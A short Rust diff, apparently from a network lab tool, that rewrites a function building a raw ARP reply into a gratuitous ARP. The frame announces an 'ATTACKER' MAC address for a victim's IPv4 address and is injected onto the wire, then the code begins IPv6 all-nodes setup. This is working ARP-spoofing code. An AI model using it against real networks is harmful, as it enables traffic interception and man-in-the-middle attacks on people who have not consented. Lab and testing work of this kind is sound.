@@ -153,10 +153,11 @@ fn claim(lab: &Lab, wire: &Injector) -> Result<()> {
     };
     let mut arp = [[0xff; 6], ATTACKER].concat();
     arp.extend([0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 2]);
-    arp.extend(ATTACKER);
-    arp.extend(v4.octets());
-    arp.extend([0xff; 6]);
-    arp.extend(v4.octets());
+    // Sender and target are the same, which makes it gratuitous.
+    for _ in 0..2 {
+        arp.extend(ATTACKER);
+        arp.extend(v4.octets());
+    }
     wire.send(&arp)?;
     let all_nodes = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
     let source = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0x66);
